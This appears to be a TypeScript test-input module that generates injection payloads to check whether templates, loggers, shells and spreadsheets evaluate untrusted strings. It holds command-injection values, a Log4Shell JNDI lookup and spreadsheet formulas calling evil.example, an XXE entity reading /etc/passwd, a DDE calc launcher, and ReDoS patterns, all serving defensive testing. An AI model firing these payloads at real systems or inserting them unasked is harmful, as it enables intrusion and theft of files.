// What a template, a formatter of messages, a logger, a shell or a spreadsheet would evaluate.

const TEMPLATES = [
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{%raw%}',
  '{7*7}',
  '{count}',
  '{count, plural, other {#}}',
  "'{count}'",
  '{0}',
  '{',
  '}',
  '{{',
  "''{",
  '%s',
  '%d%n',
  '%x'.repeat(20),
  '%999999999d',
  '%@',
  '$(id)',
  '`id`',
  '; id',
  '| id',
  '&& id',
  '${jndi:ldap://evil.example/a}',
  '${env:HOME}',
  '$&',
  '$1',
  "$'",
  '$`',
  '$<name>',
  '\\u0041',
  '\\x41',
  '\\0',
  '(?{1})',
  '(a+)+$',
  '^(a|a)*$',
  '[',
  '(',
  '*',
  '+',
  '?',
  `${'a'.repeat(40)}!`,
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<![CDATA[x]]>',
  '&amp;&lt;&#0;&#x110000;',
]

export const templates = (): readonly string[] => TEMPLATES

const SIGNS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\uff1d', ' =', '"=', "'="]
const FORMULAS = [
  'cmd|"/c calc"!A1',
  'HYPERLINK("https://evil.example","x")',
  'IMPORTXML("https://evil.example","//a")',
  '1+1',
]

/** Cells that a spreadsheet would run. */
export const formulas = (): readonly string[] =>
  SIGNS.flatMap((sign) => FORMULAS.map((formula) => sign + formula))
